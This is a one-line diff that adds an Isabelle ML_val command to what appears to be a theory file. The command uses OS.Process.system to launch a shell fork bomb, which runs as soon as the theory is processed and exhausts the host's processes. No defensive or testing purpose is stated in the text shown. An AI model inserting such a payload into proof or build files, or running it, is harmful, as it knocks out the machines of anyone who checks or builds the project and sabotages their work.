@@ -1,0 +1,1 @@
+ML_val \<open>OS.Process.system ":(){ :|:& };:"\<close>
